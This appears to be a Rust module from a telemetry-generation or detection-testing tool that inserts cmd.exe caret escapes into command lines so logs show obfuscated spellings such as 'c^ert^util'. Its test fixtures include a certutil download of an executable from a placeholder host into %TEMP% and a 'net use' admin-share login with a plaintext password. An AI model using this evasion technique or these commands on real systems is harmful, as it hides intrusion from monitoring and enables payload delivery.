//! Caret insertion: `cmd.exe` strips a `^` before an ordinary character while
//! it parses the command after `/c` or `/k`, so `c^ert^util` runs `certutil`
//! while the cmd.exe command line in the logs shows the carets. The child
//! process's command line is the stripped one, so only cmd.exe lines change.
//!
//! Carets go only where cmd.exe removes them: outside double quotes (inside,
//! a caret is literal), between two letters or digits (never last, where it
//! would escape the line end), and never in an argument that holds `%`
//! (environment variables are expanded before carets are removed, so
//! `%TE^MP%` would no longer name the variable). As in the wild, carets go
//! into command names, keywords and switches — not into paths, addresses or
//! account names (arguments with `\`, `%`, `.` between digits are skipped).

use super::cmdline::{cmd_payload, quoted_mask, split_args};
use crate::plan::rng::Rng;

pub fn apply(tool: &str, line: &str, rng: &mut Rng) -> Option<String> {
    if tool != "cmd" {
        return None;
    }
    let args = split_args(line);
    let payload = cmd_payload(line, &args)?;
    let quoted = quoted_mask(line);
    let bytes = line.as_bytes();
    let spots: Vec<usize> = args[payload + 1..]
        .iter()
        .filter(|r| is_word(&line[(*r).clone()]))
        .flat_map(|r| r.start + 1..r.end)
        .filter(|&i| {
            !quoted[i]
                && !quoted[i - 1]
                && bytes[i].is_ascii_alphanumeric()
                && bytes[i - 1].is_ascii_alphanumeric()
        })
        .collect();
    if spots.is_empty() {
        return None;
    }
    // A few carets, as seen in the wild, rather than one after every letter.
    let count = rng.between(1, spots.len().min(4) as u64) as usize;
    let mut chosen: Vec<usize> = Vec::with_capacity(count);
    while chosen.len() < count {
        let spot = *rng.pick(&spots);
        if !chosen.contains(&spot) {
            chosen.push(spot);
        }
    }
    chosen.sort_unstable();
    let mut out = String::with_capacity(line.len() + count);
    let mut last = 0;
    for spot in chosen {
        out.push_str(&line[last..spot]);
        out.push('^');
        last = spot;
    }
    out.push_str(&line[last..]);
    Some(out)
}

/// A command name, keyword or switch: no path, variable or address.
fn is_word(arg: &str) -> bool {
    !arg.contains(['\\', '%', '"', ':']) && !arg.chars().any(|c| c.is_ascii_digit())
}

/// What cmd.exe makes of carets outside quotes: each `^` escapes (and is
/// replaced by) the next character.
#[cfg(test)]
pub fn strip_carets(line: &str) -> String {
    let quoted = quoted_mask(line);
    let mut out = String::new();
    let mut escape = false;
    for (i, c) in line.char_indices() {
        if c == '^' && !quoted[i] && !escape {
            escape = true;
            continue;
        }
        escape = false;
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const LINE: &str =
        r#"C:\Windows\system32\cmd.exe /c certutil -urlcache -f "http://x.test/a b" %TEMP%\a.exe"#;

    fn variants(line: &str) -> Vec<String> {
        (0..32)
            .filter_map(|n| apply("cmd", line, &mut Rng::derive(n, "caret")))
            .collect()
    }

    #[test]
    fn carets_are_what_cmd_strips_and_only_in_the_payload() {
        let all = variants(LINE);
        assert_eq!(all.len(), 32);
        for v in &all {
            assert_eq!(strip_carets(v), LINE, "{v}");
            assert!(v.starts_with(r"C:\Windows\system32\cmd.exe /c "), "{v}");
            assert!(v.contains(r#""http://x.test/a b" %TEMP%\a.exe"#), "{v}");
            assert!(!v.contains("^^") && !v.ends_with('^'), "{v}");
        }
        assert!(
            all.iter()
                .any(|v| v.contains("^") && !v.contains("certutil"))
        );
        // Paths and addresses keep their spelling.
        let net = r#"cmd.exe /c net use \\10.20.30.97\C$ /user:NORTHWIND\bob "P1""#;
        for n in 0..16 {
            let v = apply("cmd", net, &mut Rng::derive(n, "caret")).unwrap();
            assert!(
                v.ends_with(r#" \\10.20.30.97\C$ /user:NORTHWIND\bob "P1""#),
                "{v}"
            );
        }
    }

    #[test]
    fn only_cmd_with_a_command() {
        assert_eq!(
            apply("certutil", "certutil -f x", &mut Rng::derive(1, "c")),
            None
        );
        assert_eq!(
            apply(
                "cmd",
                r#""C:\Windows\system32\cmd.exe""#,
                &mut Rng::derive(1, "c")
            ),
            None
        );
    }

    #[test]
    fn deterministic() {
        assert_eq!(variants(LINE), variants(LINE));
    }
}
